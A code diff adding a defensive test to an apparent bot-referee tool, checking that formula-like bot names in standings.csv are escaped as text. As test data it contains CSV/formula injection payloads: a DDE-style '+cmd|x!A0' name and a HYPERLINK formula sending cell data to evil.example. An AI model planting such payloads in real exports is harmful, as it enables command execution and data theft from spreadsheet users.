@@ -6,6 +6,7 @@ terminal escape codes in it are shown as ``\\x1b`` escapes instead of reaching t
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -121,6 +122,29 @@ def test_run_on_a_terminal_shows_bot_names_literally(tmp_path: Path) -> None:
     assert "\x1b]0;owned" not in result.stdout and "\x1b[31mRED" not in result.stdout
     assert "evil\\x1b[31mRED" in result.stdout
     assert (out / "standings.json").is_file()
+
+
+def test_standings_csv_keeps_names_that_look_like_formulas_as_text(tmp_path: Path) -> None:
+    """standings.csv is opened in spreadsheets: a hello name or a manifest name that starts a formula (``=``, ``+``,
+    ``-``, ``@``) gets a leading ``'`` there, so it shows as text and runs nothing; standings.json keeps it as is."""
+    formula = BOTS / "formula_name.py"
+    (tmp_path / "bots.toml").write_text(
+        f'[[bot]]\nname = "+cmd|x!A0"\ncommand = "{HONEST}"\ncwd = "."\n'
+        f'[[bot]]\nname = "formula"\ncommand = "{formula}"\ncwd = "."\n'
+    )
+    out = tmp_path / "t"
+    result = _referee(
+        "run", "--manifest", str(tmp_path / "bots.toml"), "-n", "1", "-j", "1", "--sandbox", "none", "--seed", "5",
+        "-o", str(out), cwd=tmp_path,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    _clean(result)
+    rows = {row["name"]: row for row in csv.DictReader(io.StringIO((out / "standings.csv").read_text()))}
+    assert set(rows) == {"'+cmd|x!A0", "formula"}
+    assert rows["formula"]["declared_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert rows["'+cmd|x!A0"]["declared_name"] == "honest"
+    standings = json.loads((out / "standings.json").read_text())
+    assert {e["name"] for e in standings["entrants"]} == {"+cmd|x!A0", "formula"}
 
 
 def test_the_live_standings_show_declared_names_literally() -> None:
